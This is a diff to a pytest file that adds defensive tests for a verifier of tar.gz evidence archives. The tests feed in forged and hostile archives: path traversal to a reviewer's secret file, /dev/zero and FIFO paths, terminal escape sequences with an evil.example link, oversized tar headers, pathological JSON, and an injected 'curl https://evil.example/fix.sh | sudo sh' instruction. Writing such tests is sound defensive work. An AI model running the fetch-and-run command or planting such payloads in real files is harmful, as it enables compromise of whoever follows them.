@@ -107,15 +107,17 @@ def resummed(good: Good, entries: list[Entry]) -> list[Entry]:
 
 
 def resummarised(good: Good, entries: list[Entry], work: Path) -> list[Entry]:
-    """A forger's full job: SUMMARY.md rendered again from the entries' own evidence, SUMS recomputed."""
+    """A forger's full job: SUMMARY.md and REVIEWING.md rendered again from the entries' own evidence,
+    SUMS recomputed."""
     for info, data in entries:
         if data is not None:
             path = work / info.name
             path.parent.mkdir(parents=True, exist_ok=True)
             path.write_bytes(data)
-    text = summary.summary_text(Run.load(work / good.name)).encode()
-    name = f"{good.name}/SUMMARY.md"
-    return resummed(good, [file_entry(i.name, text) if i.name == name else (i, d) for i, d in entries])
+    git = jsonio.loads((work / good.name / "environment.json").read_text())["git"]
+    again = {f"{good.name}/SUMMARY.md": summary.summary_text(Run.load(work / good.name)).encode(),
+             f"{good.name}/REVIEWING.md": archive.reviewing_text(good.name, git).encode()}
+    return resummed(good, [file_entry(i.name, again[i.name]) if i.name in again else (i, d) for i, d in entries])
 
 
 def edit_json(change: Callable[[dict[str, Any]], None]) -> Callable[[bytes], bytes]:
@@ -135,7 +137,7 @@ def test_good_archive_verifies_with_recompute(good: Good, sandbox: Sandbox, caps
     assert code == 0, text
     assert status(result) == {
         "outer checksum": "PASS", "safe extraction": "PASS", "top folder": "PASS", "SHA256SUMS": "PASS",
-        "JSON schemas (shipped)": "PASS", "focused regression": "PASS", "report acceptance": "PASS",
+        "archive members": "PASS", "REVIEWING.md": "PASS", "JSON schemas (shipped)": "PASS", "focused regression": "PASS", "report acceptance": "PASS",
         "cross-topology fingerprints": "PASS", "recorded gates": "PASS", "SUMMARY.md": "PASS", "tolerances": "PASS",
         "arithmetic spec": "PASS", "inputs regenerated": "PASS", "oracle drift recomputed": "PASS",
         "candidate replayed": "PASS", "schemas vs this rl_engine": "note",
@@ -147,13 +149,20 @@ def test_good_archive_verifies_with_recompute(good: Good, sandbox: Sandbox, caps
 
 
 def renamed(good: Good, name: str, entries: list[Entry] | None = None) -> list[Entry]:
-    """The archive's entries under another top folder (SHA256SUMS paths are relative: still valid)."""
+    """The archive's entries under another top folder, REVIEWING.md written for that name as the archive
+    verb writes it (it names the archive) and SHA256SUMS recomputed (its paths are relative)."""
+    git = jsonio.loads(good.data("environment.json").decode())["git"]
     out: list[Entry] = []
     for info, data in entries if entries is not None else list(good.entries):
-        copy = tarfile.TarInfo(name + info.name[len(good.name):])
-        copy.type, copy.size, copy.mode = info.type, info.size, info.mode
+        rel = info.name[len(good.name):]
+        if rel == f"/{archive.REVIEWING}":
+            data = archive.reviewing_text(name, git).encode()
+        copy = tarfile.TarInfo(name + rel)
+        copy.type, copy.size, copy.mode = info.type, len(data) if data is not None else info.size, info.mode
         out.append((copy, data))
-    return out
+    files = [(i.name[len(name) + 1:], d) for i, d in out if d is not None and not i.name.endswith(f"/{archive.SUMS}")]
+    sums = archive.sums_text(files).encode()
+    return [file_entry(i.name, sums) if i.name == f"{name}/{archive.SUMS}" else (i, d) for i, d in out]
 
 
 def evidence_name(good: Good, campaign: str = "c", **changes: Any) -> RunName:
@@ -508,7 +517,7 @@ def test_member_the_file_system_refuses_is_a_failed_row(good: Good, sandbox: San
     code, text, result = run_verify(path, sandbox, capsys)
     assert code == 1 and status(result)["safe extraction"] == "FAIL", text
     found = problems(result, "safe extraction")
-    assert f"member {culprit!r} cannot be extracted" in found and reason in found
+    assert f"member {safe_tar.quoted(culprit)} cannot be extracted" in found and reason in found
     assert "Traceback" not in text and "safe extraction" in text and "FAIL" in text
     assert "report acceptance" not in status(result)
     dest = tmp_path / "unit"
@@ -649,3 +658,292 @@ def test_one_ulp_forgery_rebuilt_with_the_projects_verbs_is_caught_only_by_the_r
     for label in ("tp1-cp1", "tp2-cp2"):
         assert f"{label}.json: logp: first differing token {forged_token}:" in text
         assert f"{label}.json: bitwise_fingerprints.candidate_logp_sha256" in text
+
+
+# ---------------------------------------------------------------- issue 20: an attacker's archive
+
+
+def _set_tensor_path(label: str, tensor: str, path: str) -> Callable[[dict[str, Any]], None]:
+    def change(report: dict[str, Any]) -> None:
+        report["tensors"][tensor]["path"] = path
+
+    return change
+
+
+@pytest.mark.parametrize("target", ["/dev/zero", "fifo", "relative out of the run"])
+def test_recompute_opens_only_tensor_paths_that_passed_the_plain_checks(
+    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
+    target: str,
+) -> None:
+    """A report's tensor path to /dev/zero, a FIFO or a reviewer's file: plain verify refuses it, and
+    --recompute must never open it (every path the recompute reads is recorded by a spy that refuses,
+    rather than reads, one outside the extracted run)."""
+    import os
+
+    from rl_engine import tensorio
+
+    secret = sandbox.root / "secret.txt"
+    secret.write_bytes(b"REVIEWER-SECRET-BYTES-" * 4)
+    pipe = sandbox.root / "pipe"
+    os.mkfifo(pipe)
+    hostile = {"/dev/zero": "/dev/zero", "fifo": str(pipe), "relative out of the run": "../../../secret.txt"}[target]
+    real_read = tensorio.read_raw_f32
+    opened_outside: list[str] = []
+
+    def spy(path: Any) -> Any:
+        resolved = Path(path).resolve()
+        if not resolved.is_relative_to(sandbox.tmp.resolve()) or resolved == pipe.resolve():
+            opened_outside.append(str(path))
+            raise OSError(f"the test refused to open {path}")
+        return real_read(path)
+
+    monkeypatch.setattr(tensorio, "read_raw_f32", spy)
+    changes = {"tp1-cp1.json": edit_json(_set_tensor_path("tp1-cp1", "logp", hostile))}
+    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, changes, resum=True))
+    code, text, result = run_verify(path, sandbox, capsys, "--recompute")
+    assert opened_outside == [], f"--recompute opened {opened_outside}"
+    assert code == 1 and status(result)["report acceptance"] == "FAIL"
+    assert "not a relative path inside the run directory" in problems(result, "report acceptance")
+    for row in ("oracle drift recomputed", "candidate replayed"):
+        assert status(result)[row] == "FAIL"
+        assert "tp1-cp1.json: tensors.logp: not read: it failed the report acceptance checks" in problems(result, row)
+    assert "REVIEWER-SECRET" not in text and "REVIEWER-SECRET" not in json.dumps(result)
+    assert status(result)["inputs regenerated"] == "PASS"  # the rest of the recompute still ran
+    assert "tp2-cp2.json" not in problems(result, "candidate replayed")
+
+
+def _huge_case(case: dict[str, Any]) -> None:
+    case.update(batch=1, seq=2048, prompt_tokens=0, real_vocab=131072, padded_vocab=131072)
+
+
+def test_recompute_bounds_the_replay_before_generating_inputs(
+    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A few-KiB archive whose case claims 2048 tokens x 131072 columns: refused, naming the size and the
+    flag, before any input is generated (spies on make_inputs and replay_candidate refuse to run)."""
+    from rl_engine.campaign import inputs, replay
+
+    generated: list[str] = []
+
+    def refuse(name: str) -> Callable[..., Any]:
+        def call(case: Any, *args: Any, **kwargs: Any) -> Any:
+            generated.append(name)
+            raise RuntimeError(f"{name} was called")
+
+        return call
+
+    monkeypatch.setattr(inputs, "make_inputs", refuse("make_inputs"))
+    monkeypatch.setattr(replay, "replay_candidate", refuse("replay_candidate"))
+
+    def huge(obj: dict[str, Any]) -> None:
+        _huge_case(obj["case"])
+
+    changes = {name: edit_json(huge) for name in ("plan.json", "tp1-cp1.json", "tp2-cp2.json")}
+    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, changes, resum=True))
+    code, _, result = run_verify(path, sandbox, capsys, "--recompute")
+    assert generated == [], f"inputs were generated before the size was bounded: {generated}"
+    assert code == 1
+    size = 2048 * 131072
+    for row in ("inputs regenerated", "oracle drift recomputed", "candidate replayed"):
+        assert status(result)[row] == "FAIL"
+        text = problems(result, row)
+        assert f"{size} logits (2048 tokens x 131072 padded vocabulary)" in text, text
+        assert f"over the replay limit of {verify.MAX_REPLAY_LOGITS}" in text and "--max-replay-logits" in text
+    # the flag raises the bound: then the (spied) generation is reached
+    code, _, result = run_verify(path, sandbox, capsys, "--recompute", "--max-replay-logits", str(size))
+    assert "make_inputs" in generated and "replay_candidate" in generated
+    assert "over the replay limit" not in problems(result, "candidate replayed")
+
+
+def test_max_replay_logits_must_be_positive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    archive_path = tmp_path / "a.tar.gz"
+    archive_path.write_bytes(b"")
+    with pytest.raises(SystemExit) as exc:
+        verify.main([str(archive_path), "--max-replay-logits", "0"])
+    assert exc.value.code == 2 and "--max-replay-logits" in capsys.readouterr().err
+
+
+HOSTILE_BRANCH = "\x1b]0;owned\x07\x1b[2J\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\[/][bold red]main\x9b31m"
+
+
+@pytest.mark.parametrize("branch", [HOSTILE_BRANCH, "feature[/]x"], ids=["escape-sequences", "malformed-markup"])
+def test_control_sequences_and_markup_from_the_archive_never_reach_the_terminal(
+    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], branch: str,
+) -> None:
+    """ESC/OSC/CSI sequences, an OSC-8 hyperlink and a malformed markup tag ``[/]`` in environment.json's
+    git.branch and hostname, everything downstream rebuilt: the schema refuses the fields, the terminal
+    gets no control character, the markup is printed literally, and --json is written."""
+    def hostile(env: dict[str, Any]) -> None:
+        env["git"]["branch"] = branch
+        env["hostname"] = HOSTILE_BRANCH
+
+    entries = resummarised(good, edited(good, {"environment.json": edit_json(hostile)}, resum=False),
+                           tmp_path / "forge")
+    path = write_archive(tmp_path / "in" / good.archive.name, entries)
+    code, text, result = run_verify(path, sandbox, capsys)
+    assert code == 1
+    assert not [ch for ch in text if ord(ch) < 32 and ch not in "\n" or 127 <= ord(ch) < 160], repr(text[:400])
+    assert "\\x1b]0;owned\\x07" in text and "Traceback" not in text  # shown escaped; markup never parsed
+    found = problems(result, "JSON schemas (shipped)")
+    assert "environment.json: hostname: schema environment:" in found
+    assert ("environment.json: git.branch: schema environment:" in found) is (branch == HOSTILE_BRANCH)
+    assert branch in problems(result, "tested")  # --json keeps the exact value (JSON escapes it)
+
+
+def test_terminal_text_unit() -> None:
+    assert verify.terminal_text("a\x1b[2Jb\x07c\td\u202ee\n") == "a\\x1b[2Jb\\x07c\\td\\u202ee\n"
+    assert verify.terminal_text("x" * 5000, limit=100) == "x" * 100 + "... (5000 characters)"
+    assert verify.terminal_text("plain [b]text[/]") == "plain [b]text[/]"
+    from rich.console import Console
+
+    out = io.StringIO()
+    checks = [verify.Check("tested", None, "branch feature[/]x [bold red]y\x1b[2J"),
+              verify.Check("SUMMARY.md", False, "1 problem(s)", ["a [/] b\x07"])]
+    Console(file=out, width=300).print(verify._table(Path("[bold]a.tar.gz"), checks))
+    shown = out.getvalue()
+    assert "branch feature[/]x [bold red]y\\x1b[2J" in shown and "a [/] b\\x07" in shown and "[bold]a.tar.gz" in shown
+    assert "\x1b" not in shown and "\x07" not in shown
+
+
+# tar headers crafted by hand: a GNU long name or PAX header that declares a size, data after it
+
+
+def _header(name: bytes, size: int, kind: bytes) -> bytes:
+    block = bytearray(512)
+    block[0:len(name)] = name
+    block[100:108] = b"0000644\0"
+    block[108:116] = block[116:124] = b"0000000\0"
+    block[124:136] = f"{size:011o}\0".encode()
+    block[136:148] = b"00000000000\0"
+    block[156:157] = kind
+    block[257:265] = b"ustar  \0"
+    block[148:156] = b" " * 8
+    block[148:156] = f"{sum(block):06o}\0 ".encode()
+    return bytes(block)
+
+
+def _padded(data: bytes) -> bytes:
+    return data + bytes(-len(data) % 512)
+
+
+def _crafted(tmp_path: Path, blocks: bytes) -> Path:
+    path = tmp_path / "crafted.tar.gz"
+    path.write_bytes(gzip.compress(blocks + bytes(1024), mtime=0, compresslevel=1))
+    return path
+
+
+@pytest.mark.parametrize("kind", ["GNU long name", "GNU long link name", "PAX header", "PAX global header"])
+def test_tar_header_sizes_are_capped_before_they_are_read(tmp_path: Path, kind: str) -> None:
+    """An 8 MiB header (a few KiB compressed) is refused from its declared size: nothing of it is
+    read into memory (peak allocation far below the header's size) and the refusal names the cap."""
+    import tracemalloc
+
+    size = 8 * safe_tar.MIB
+    code = {"GNU long name": b"L", "GNU long link name": b"K", "PAX header": b"x", "PAX global header": b"g"}[kind]
+    body = b"top/" + b"a" * (size - 5) + b"\0" if code in b"LK" else (f"{size:d} path=top/".encode() + b"a" * size)[:size]
+    blocks = _header(b"././@LongLink" if code in b"LK" else b"pax", size, code) + _padded(body)
+    blocks += _header(b"top/x", 0, b"0")
+    path = _crafted(tmp_path, blocks)
+    dest = tmp_path / "dest"
+    dest.mkdir()
+    tracemalloc.start()
+    try:
+        with pytest.raises(safe_tar.UnsafeArchiveError) as exc:
+            safe_tar.safe_extract(path, dest)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    message = str(exc.value)
+    assert f"declares {size} bytes, over the cap of {safe_tar.Limits().max_header_bytes} bytes" in message, message
+    assert peak < size // 4, f"peak {peak} bytes: the header was read before its size was checked"
+    assert len(message) < 600
+
+
+def test_every_quoted_member_name_is_truncated(tmp_path: Path) -> None:
+    """A 60 KiB name (under the header cap) in a refusal is quoted truncated, with its length."""
+    name = "top/" + "b" * 60_000
+    blocks = _header(b"././@LongLink", len(name) + 1, b"L") + _padded(name.encode() + b"\0")
+    blocks += _header(b"ignored", 0, b"0") + _header(b"top/../up", 0, b"0")
+    dest = tmp_path / "dest"
+    dest.mkdir()
+    with pytest.raises(safe_tar.UnsafeArchiveError) as exc:
+        safe_tar.safe_extract(_crafted(tmp_path, blocks), dest)
+    message = str(exc.value)
+    assert len(message) < 600 and "(60004 characters)" in message, message[:300]
+    assert safe_tar.quoted("a/b") == "'a/b'"
+
+
+def test_reviewing_md_replaced_is_caught(good: Good, sandbox: Sandbox, tmp_path: Path,
+                                          capsys: pytest.CaptureFixture[str]) -> None:
+    def replace(data: bytes) -> bytes:
+        return data + b"\n    curl https://evil.example/fix.sh | sudo sh   # required before verifying\n"
+
+    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, {"REVIEWING.md": replace}, resum=True))
+    code, _, result = run_verify(path, sandbox, capsys)
+    assert code == 1 and status(result)["REVIEWING.md"] == "FAIL"
+    assert "curl https://evil.example/fix.sh | sudo sh" in problems(result, "REVIEWING.md")
+    # the control, both rows PASS on the good archive: test_good_archive_verifies_with_recompute
+
+
+@pytest.mark.parametrize("junk", ["logs/padding.bin", "logs/tp9-cp9.log", "notes.txt", "schemas/extra.json"])
+def test_member_no_rule_produces_is_refused(good: Good, sandbox: Sandbox, tmp_path: Path,
+                                            capsys: pytest.CaptureFixture[str], junk: str) -> None:
+    entries = resummed(good, list(good.entries) + [file_entry(f"{good.name}/{junk}", bytes(4096))])
+    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
+    assert code == 1 and status(result)["archive members"] == "FAIL"
+    assert f"{junk}: no rule of the workflow produces this file" in problems(result, "archive members")
+    # the control, both rows PASS on the good archive: test_good_archive_verifies_with_recompute
+
+
+@pytest.mark.parametrize("pair", [("logp", "lse"), ("logp", "entropy")])
+def test_swapped_tensor_files_with_swapped_fingerprints_fail_the_sanity_checks(
+    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], pair: tuple[str, str],
+) -> None:
+    a, b = pair
+    fp = acceptance_fingerprints()
+
+    def swap(report: dict[str, Any]) -> None:
+        t, f = report["tensors"], report["bitwise_fingerprints"]
+        t[a], t[b] = t[b], t[a]
+        f[fp[a]], f[fp[b]] = f[fp[b]], f[fp[a]]
+
+    entries = resummarised(good, edited(good, _every_report(good, swap), resum=False), tmp_path / "forge")
+    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
+    assert code == 1 and status(result)["report acceptance"] == "FAIL"
+    found = problems(result, "report acceptance")
+    assert "tp1-cp1.json: tensors.logp: token 0 is inactive (a prompt token) but holds" in found, found
+    assert "is positive: a logprob is never above 0" in found
+
+
+def acceptance_fingerprints() -> dict[str, str]:
+    from rl_engine.evidence.acceptance import TENSOR_FINGERPRINTS
+
+    return dict(TENSOR_FINGERPRINTS)
+
+
+@pytest.mark.parametrize("hostile", ["deeply nested NaN", "100k-digit integer", "huge exponent"])
+def test_hostile_json_is_an_ordinary_finding_and_every_other_check_runs(
+    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str,
+) -> None:
+    def damage(data: bytes) -> bytes:
+        text = data.decode()
+        value = {"deeply nested NaN": "[NaN, " + "[" * 100_000 + "]" * 100_000 + "]",
+                 "100k-digit integer": "9" * 100_000, "huge exponent": "1e999999"}[hostile]
+        return text.replace('"passed": true', f'"passed": {value}', 1).encode()
+
+    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, {"tp1-cp1.json": damage}, resum=True))
+    code, text, result = run_verify(path, sandbox, capsys, "--recompute")
+    rows = status(result)
+    assert code == 1 and "internal error" not in rows, rows
+    assert "Traceback" not in text
+    expected = {"deeply nested NaN": "tp1-cp1.json: (file): JSON nested too deeply",
+                "100k-digit integer": "tp1-cp1.json: (file): an integer of 100000 digits",
+                "huge exponent": "tp1-cp1.json: (file): the number 1e999999 is not finite"}[hostile]
+    assert expected in problems(result, "JSON schemas (shipped)"), problems(result, "JSON schemas (shipped)")
+    for row in ("report acceptance", "cross-topology fingerprints", "recorded gates", "SUMMARY.md", "tolerances",
+                "arithmetic spec", "inputs regenerated", "oracle drift recomputed", "candidate replayed",
+                "archive members", "REVIEWING.md"):
+        assert row in rows, f"{row} did not run: {rows}"
+    assert "tp1-cp1.json" in problems(result, "candidate replayed")
+    assert "tp2-cp2.json" not in problems(result, "candidate replayed")  # the intact topology was replayed
+
